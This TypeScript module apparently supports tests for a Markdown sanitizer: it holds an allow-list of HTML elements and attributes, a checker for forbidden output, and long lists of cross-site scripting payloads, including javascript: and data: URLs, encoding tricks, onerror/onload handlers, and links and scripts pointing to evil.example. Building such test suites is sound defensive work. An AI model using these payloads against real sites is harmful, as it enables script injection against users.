/** An element, as parsed by a browser. */
export interface FoundElement {
  name: string;
  namespace: string | null;
  attributes: readonly { name: string; value: string }[];
}

/** The allowed elements, with the values of their attributes. */
const ALLOWED: Record<string, Record<string, RegExp>> = {
  ...Object.fromEntries(
    'p br hr strong em s blockquote details summary ul li code table thead tbody tr h4'
      .split(' ')
      .map((tag) => [tag, {}]),
  ),
  ol: { start: /^\d+$/ },
  pre: { tabindex: /^0$/ },
  h2: { id: /^s-/ },
  h3: { id: /^s-/ },
  a: {
    href: /^(?:https?:\/\/[^/]|mailto:|\/(?![/\\]))[^\s\\]*$/,
    rel: /^noopener noreferrer nofollow$/,
    target: /^_blank$/,
  },
  img: { src: /^\/api\/files\/[0-9a-f-]{36}$/, alt: /^/, loading: /^lazy$/ },
  div: { class: /^table$/, tabindex: /^0$/, role: /^region$/, 'aria-label': /^Table \d+$/ },
  th: { scope: /^col$/, class: /^(?:center|right)$/ },
  td: { class: /^(?:center|right)$/ },
};

/** The problems of an element of rendered Markdown; empty when there are none. */
export function forbiddenIn(
  { name: element, namespace, attributes }: FoundElement,
  origin: string,
): string[] {
  const problems: string[] = [];
  const allowed = ALLOWED[element];
  if (!allowed || namespace !== 'http://www.w3.org/1999/xhtml') problems.push(element);
  for (const { name, value } of attributes) {
    // The sanitizer leaves the name of an attribute whose value it refuses.
    if (value !== '' && !allowed?.[name]?.test(value)) problems.push(`${element} ${name}=${value}`);
    if (name !== 'href' || !URL.canParse(value, origin)) continue;
    const address = new URL(value, origin);
    if (!['http:', 'https:', 'mailto:'].includes(address.protocol)) problems.push(address.protocol);
    if (value.startsWith('/') && address.origin !== origin) problems.push(value);
  }
  return problems;
}

/** Addresses that no link may lead to. */
export const INJECTED_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61',
  'java\tscript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'javascript\\:alert(1)',
  'java\\script:alert(1)',
  'javascript:alert%281%29',
  'javascript://https://x/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'data:image/png;base64,iVBORw0KGgo=',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://x/1',
  'view-source:https://x',
  'intent://x#Intent;end',
  'filesystem:https://x',
  '//evil.example/x',
  '/\\evil.example',
  '\\\\evil.example',
  '/\t/evil.example',
  '///evil.example',
  'https:evil',
  'http:/\\evil.example',
  'feed:javascript:alert(1)',
  'https://x" onmouseover="alert(1)',
  `https://x' onmouseover='alert(1)`,
  'https://x><script>alert(1)</script>',
  '/x&quot;&gt;&lt;script&gt;',
  '#<script>',
  'mailto:a@b?body=<script>',
];

/** HTML that must never be rendered. */
export const INJECTED_HTML = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" /',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;">',
  '<object data="javascript:alert(1)">',
  '<embed src="//evil.example">',
  '<base href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example">',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="background:url(javascript:alert(1))">',
  '<div class="admin" id="root">',
  '<form action="//evil.example"><input name=a><button formaction="javascript:alert(1)">',
  '<a href="javascript:alert(1)" target=_top>a</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<x onclick=alert(1)>',
  '<div\u000bonclick=alert(1)>',
  '\u003cscript\u003e',
  '</p></div></body><script>',
];

const MARKDOWN = [
  '[a](<javascript:alert(1)>)',
  '[a](/x "t\\" onclick=\\"alert(1)")',
  "[a](/x 't' onclick='alert(1)')",
  '[a]\n\n[a]: javascript:alert(1)',
  '[a]\n\n[a]: <javascript:alert(1)> "x"',
  '[<img src=x onerror=alert(1)>](/x)',
  '[[[[a](javascript:1)](javascript:2)](javascript:3)](/x)',
  '[![a](javascript:alert(1))](javascript:alert(1))',
  '![a" onerror="alert(1)](/api/files/123e4567-e89b-12d3-a456-426614174000)',
  '![a](/api/files/123e4567-e89b-12d3-a456-426614174000" onerror="alert(1))',
  '![<script>](/api/files/123e4567-e89b-12d3-a456-426614174000 "x\\" onload=\\"y")',
  '![a](//evil.example/x.png)',
  '```"><script>\n</code></pre><script>alert(1)</script>\n```',
  '``` js onclick=alert(1)\na\n```',
  '`</code><script>alert(1)</script>`',
  '    </code></pre><script>alert(1)</script>',
  '|<script>|a|\n|:-:|-|\n|<img src=x onerror=1>|`<b>`|',
  '# <img src=x onerror=alert(1)>',
  '# " onclick="alert(1)',
  '# root\n# app\n# constructor',
  '<javascript:alert(1)>',
  '<https://x"onclick=alert(1)>',
  '<a@b.c"onclick=alert(1)>',
  'https://x/"onmouseover="alert(1)',
  'javascript:alert(1)//https://x.example',
  "https://x/'><script>alert(1)</script>",
  '> <script>\n> alert(1)\n> </script>',
  '- <style>\n- @import "//evil.example"',
  '1. [a](data:text/html,x)',
  '**<b onclick=1>**_<i>_~~<s>~~',
  '\\<script>alert(1)\\</script>',
];

/** Every injection, as Markdown texts. */
export const INJECTIONS: readonly string[] = [
  ...INJECTED_ADDRESSES.flatMap((address) => [
    `[a](${address})`,
    `[a](<${address}>)`,
    `<${address}>`,
    `![a](${address})`,
    `[a]\n\n[a]: ${address}`,
  ]),
  ...INJECTED_HTML.flatMap((html) => [html, `text ${html} text`, `> ${html}`]),
  ...MARKDOWN,
];
